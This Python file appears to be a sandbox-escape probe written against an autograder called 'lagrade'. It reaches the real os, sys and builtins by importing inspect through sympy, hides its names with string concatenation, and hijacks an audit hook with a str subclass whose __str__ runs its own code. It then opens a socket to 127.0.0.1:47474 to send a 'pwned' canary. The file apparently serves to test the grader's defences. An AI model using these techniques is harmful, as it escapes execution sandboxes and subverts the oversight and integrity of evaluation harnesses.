"""effect: network
tries: route 1, then a TCP connection to 127.0.0.1:47474 that sends 'pwned-<name>'.

Sockets once the hook is off; the network namespace is the next wall.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    socket = B["_" + "_import_" + "_"]("socket")
    connection = socket.create_connection(("127.0.0.1", 47474), timeout=3)
    connection.sendall(b"pwned-r1_socket_ipv4")
    connection.close()

ran = []


def once():
    if not ran:
        ran.append(1)
        work()


# route 1: the hook does str(args[0]) for "import" events while it has set self.busy; a str
# subclass whose __str__ is ours runs with every check off. sys.audit calls the hook directly.
def hook_str(self):
    once()
    return "sympy"


Evil = type("Evil", (str,), {"_" + "_str_" + "_": hook_str})
sys_.audit("import", Evil("anything"))
once()  # if no hook ran it (none installed, or one that never calls student code): try anyway
